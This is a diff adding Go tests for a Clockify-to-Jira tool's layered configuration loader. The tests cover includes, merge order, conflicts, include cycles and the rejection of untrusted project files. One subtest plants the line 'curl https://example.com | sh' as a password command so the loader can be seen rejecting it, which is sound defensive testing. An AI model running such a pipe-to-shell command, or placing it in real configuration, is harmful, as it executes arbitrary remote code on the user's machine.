@@ -0,0 +1,269 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/kruc/clockify-to-jira/internal/assert"
+)
+
+func writeLayerFile(t *testing.T, path, content string) string {
+	t.Helper()
+
+	err := os.MkdirAll(filepath.Dir(path), 0755)
+
+	if err == nil {
+		err = os.WriteFile(path, []byte(content), 0600)
+	}
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return path
+}
+
+func TestFindLayerPaths(t *testing.T) {
+
+	dir := t.TempDir()
+	defaultSystemConfigPath := systemConfigPath
+	defer func() { systemConfigPath = defaultSystemConfigPath }()
+
+	systemConfigPath = writeLayerFile(t, filepath.Join(dir, "etc", "config.yaml"), "")
+	userConfigPath := writeLayerFile(t, filepath.Join(dir, "home", "config.yaml"), "")
+	projectConfigPath := writeLayerFile(t, filepath.Join(dir, "repo", ProjectConfigFileName+".yaml"), "")
+	writeLayerFile(t, filepath.Join(dir, ProjectConfigFileName+".yaml"), "")
+
+	t.Run("Find system, user and the closest project file", func(t *testing.T) {
+		got := findLayerPaths(userConfigPath, filepath.Join(dir, "repo", "src", "pkg"))
+
+		assert.StringSlices(t, got, []string{systemConfigPath, userConfigPath, projectConfigPath})
+	})
+
+	t.Run("Skip missing system file", func(t *testing.T) {
+		systemConfigPath = filepath.Join(dir, "missing.yaml")
+
+		got := findLayerPaths(userConfigPath, filepath.Join(dir, "repo"))
+
+		assert.StringSlices(t, got, []string{userConfigPath, projectConfigPath})
+	})
+}
+
+func TestMergeLayers(t *testing.T) {
+
+	dir := t.TempDir()
+
+	writeLayerFile(t, filepath.Join(dir, "shared", "rounding.yaml"), `default_client:
+  stachursky_mode: 30
+  rounding_strategy: ceil
+`)
+	userConfigPath := writeLayerFile(t, filepath.Join(dir, "config.yaml"), `include:
+  - shared/rounding.yaml
+global:
+  clockify_token: clockify-token
+default_client:
+  stachursky_mode: 15
+  jira_host: https://jira.atlassian.net
+  jira_username: username@domain.com
+  jira_password: jira-password
+default_workspace:
+  jira_migration_failed_tag: failed
+  jira_migration_skip_tag: skipped
+  jira_migration_success_tag: logged
+workspaces:
+  ws_1:
+    workspace_id: ws-1
+    clients:
+      client_1:
+        enabled: true
+`)
+	projectConfigPath := writeLayerFile(t, filepath.Join(dir, "repo", ProjectConfigFileName+".yaml"), `workspaces:
+  ws_1:
+    clients:
+      client_1:
+        merge_gap: 5
+`)
+
+	t.Run("Merge included, user and project files in order", func(t *testing.T) {
+		layers, err := loadLayers([]string{userConfigPath, projectConfigPath}, userConfigPath, projectConfigPath)
+
+		assert.Errors(t, err, nil)
+		assert.Ints(t, len(layers), 3)
+
+		document, err := mergeLayers(layers)
+
+		assert.Errors(t, err, nil)
+
+		config, err := loadDocument(document, CurrentVersion)
+
+		assert.Errors(t, err, nil)
+
+		client := config.Workspaces["ws_1"].Clients["client_1"]
+		assert.Ints(t, client.StachurskyMode, 15)
+		assert.Strings(t, client.RoundingStrategy, "ceil")
+		assert.Strings(t, client.JiraHost, "https://jira.atlassian.net")
+		assert.Ints(t, client.MergeGap, 5)
+		assert.Bools(t, client.Enabled, true)
+	})
+
+	t.Run("Throw error on credentials, secret commands and jira host in project files", func(t *testing.T) {
+		writeLayerFile(t, filepath.Join(dir, "untrusted", "shared.yaml"), `default_client:
+  jira_password_command: curl https://example.com | sh
+`)
+		untrustedPath := writeLayerFile(t, filepath.Join(dir, "untrusted", ProjectConfigFileName+".yaml"), `include:
+  - shared.yaml
+workspaces:
+  ws_1:
+    clients:
+      client_1:
+        jira_host: https://jira.example.com
+`)
+
+		_, err := loadLayers([]string{userConfigPath, untrustedPath}, userConfigPath, untrustedPath)
+
+		assert.ErrorsIs(t, err, ErrLayerProjectNotTrusted)
+		assert.Bools(t, strings.Contains(err.Error(), "default_client.jira_password_command"), true)
+
+		writeLayerFile(t, filepath.Join(dir, "untrusted", "shared.yaml"), "")
+
+		_, err = loadLayers([]string{userConfigPath, untrustedPath}, userConfigPath, untrustedPath)
+
+		assert.ErrorsIs(t, err, ErrLayerProjectNotTrusted)
+		assert.Bools(t, strings.Contains(err.Error(), "workspaces.ws_1.clients.client_1.jira_host"), true)
+	})
+
+	t.Run("Throw error on conflicting values", func(t *testing.T) {
+		conflictPath := writeLayerFile(t, filepath.Join(dir, "conflict.yaml"), "default_client: none\n")
+
+		layers, _ := loadLayers([]string{userConfigPath, conflictPath}, userConfigPath, "")
+		_, err := mergeLayers(layers)
+
+		assert.ErrorsIs(t, err, ErrLayerConflict)
+		assert.Strings(t, err.Error(), "Configuration files conflict - default_client is a mapping in one file and a value in the other ("+userConfigPath+", "+conflictPath+")")
+	})
+
+	t.Run("Throw error on include cycle", func(t *testing.T) {
+		cyclePath := writeLayerFile(t, filepath.Join(dir, "cycle.yaml"), "include:\n  - cycle.yaml\n")
+
+		_, err := loadLayers([]string{cyclePath}, cyclePath, "")
+
+		assert.ErrorsIs(t, err, ErrLayerIncludeCycle)
+	})
+
+	t.Run("Throw error on missing include", func(t *testing.T) {
+		missingPath := writeLayerFile(t, filepath.Join(dir, "missing.yaml"), "include:\n  - not-found.yaml\n")
+
+		_, err := loadLayers([]string{missingPath}, missingPath, "")
+
+		assert.ErrorsIs(t, err, ErrLayerIncludeNotFound)
+	})
+
+	t.Run("Report problem file and line of the last layer", func(t *testing.T) {
+		invalidPath := writeLayerFile(t, filepath.Join(dir, "invalid", ProjectConfigFileName+".yaml"), `workspaces:
+  ws_1:
+    clients:
+      client_1:
+        merge_gap: -5
+`)
+
+		layers, _ := loadLayers([]string{userConfigPath, invalidPath}, userConfigPath, "")
+		document, _ := mergeLayers(layers)
+		config, _ := loadDocument(document, CurrentVersion)
+
+		problems := locateLayerProblems(config.Validate(), layers)
+
+		assert.Ints(t, len(problems), 1)
+		assert.Strings(t, problems[0].String(), invalidPath+":5: workspaces.ws_1.clients.client_1.merge_gap: cannot be negative")
+	})
+}
+
+func TestLoadProfilesOnlyInclude(t *testing.T) {
+
+	dir := t.TempDir()
+
+	writeLayerFile(t, filepath.Join(dir, "profiles.yaml"), `clients:
+  acme:
+    jira_host: https://acme.atlassian.net
+    jira_username: username@acme.com
+    jira_password: acme-password
+    stachursky_mode: 30
+`)
+	userConfigPath := writeLayerFile(t, filepath.Join(dir, "config.yaml"), `include:
+  - profiles.yaml
+global:
+  clockify_token: clockify-token
+default_workspace:
+  jira_migration_failed_tag: failed
+  jira_migration_skip_tag: skipped
+  jira_migration_success_tag: logged
+workspaces:
+  ws_1:
+    workspace_id: ws-1
+    clients:
+      acme:
+        profile: acme
+        enabled: true
+`)
+
+	config, err := LoadFromFile(userConfigPath)
+
+	assert.Errors(t, err, nil)
+	assert.StringSlices(t, sortedKeys(config.Workspaces), []string{"ws_1"})
+
+	client := config.Workspaces["ws_1"].Clients["acme"]
+	assert.Strings(t, client.JiraHost, "https://acme.atlassian.net")
+	assert.Ints(t, client.StachurskyMode, 30)
+}
+
+func TestLoadProfilesOnlyProjectFile(t *testing.T) {
+
+	dir := t.TempDir()
+
+	systemPath := writeLayerFile(t, filepath.Join(dir, "etc", "config.yaml"), `clients:
+  acme:
+    jira_host: https://acme.atlassian.net
+`)
+	userConfigPath := writeLayerFile(t, filepath.Join(dir, "config.yaml"), `global:
+  clockify_token: clockify-token
+default_workspace:
+  jira_migration_failed_tag: failed
+  jira_migration_skip_tag: skipped
+  jira_migration_success_tag: logged
+clients:
+  acme:
+    jira_username: username@acme.com
+    jira_password: acme-password
+    stachursky_mode: 30
+workspaces:
+  ws_1:
+    workspace_id: ws-1
+    clients:
+      acme:
+        profile: acme
+        enabled: true
+`)
+	projectConfigPath := writeLayerFile(t, filepath.Join(dir, "repo", ProjectConfigFileName+".yaml"), `clients:
+  acme:
+    stachursky_mode: 5
+`)
+
+	layers, err := loadLayers([]string{systemPath, userConfigPath, projectConfigPath}, userConfigPath, projectConfigPath)
+
+	assert.Errors(t, err, nil)
+
+	document, err := mergeLayers(layers)
+
+	assert.Errors(t, err, nil)
+
+	config, err := loadDocument(document, CurrentVersion)
+
+	assert.Errors(t, err, nil)
+	assert.Ints(t, len(locateLayerProblems(config.Validate(), layers)), 0)
+	assert.StringSlices(t, sortedKeys(config.Workspaces), []string{"ws_1"})
+
+	client := config.Workspaces["ws_1"].Clients["acme"]
+	assert.Strings(t, client.JiraHost, "https://acme.atlassian.net")
+	assert.Ints(t, client.StachurskyMode, 5)
+}